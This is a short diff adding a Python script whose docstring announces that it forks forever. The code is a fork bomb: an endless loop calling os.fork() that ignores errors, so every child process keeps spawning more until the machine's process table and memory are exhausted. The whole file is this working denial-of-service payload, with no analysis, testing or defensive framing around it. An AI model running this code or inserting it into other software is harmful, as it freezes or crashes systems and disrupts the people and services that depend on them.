@@ -1,0 +1,8 @@
+"""Forks for ever, and so does every child."""
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
